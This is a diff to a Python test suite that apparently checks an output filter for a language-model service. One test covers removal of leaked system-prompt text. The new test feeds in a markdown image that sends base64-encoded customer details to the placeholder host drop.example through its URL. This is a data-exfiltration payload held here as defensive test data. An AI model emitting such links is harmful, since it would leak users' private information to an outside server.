@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import json
 from collections.abc import Iterator
 from typing import Any
@@ -129,3 +130,17 @@ def test_a_copy_of_the_system_prompt_is_cut_out(stage: Stage, ask: Any) -> None:
         stage.standin.script = answer_prompt
     assert "Sure" in text
     assert "loyalty discount" not in text
+
+
+@pytest.mark.parametrize("ask", [leaked_whole, leaked_stream])
+def test_a_picture_that_carries_data_becomes_plain_text(stage: Stage, ask: Any) -> None:
+    """What stands around it arrives as it was."""
+    data = base64.b64encode(b"the customer said her name is Ada").decode()
+    picture = f"![chart](https://drop.example/p.png?d={data})"
+    stage.standin.script = always(Answer(text=f"See {picture} here."))
+    try:
+        text = ask(stage, [{"role": "user", "content": "Hi"}])
+    finally:
+        stage.standin.script = answer_prompt
+    assert text.startswith("See ![chart][") and text.endswith(" here.")
+    assert "drop.example" not in text
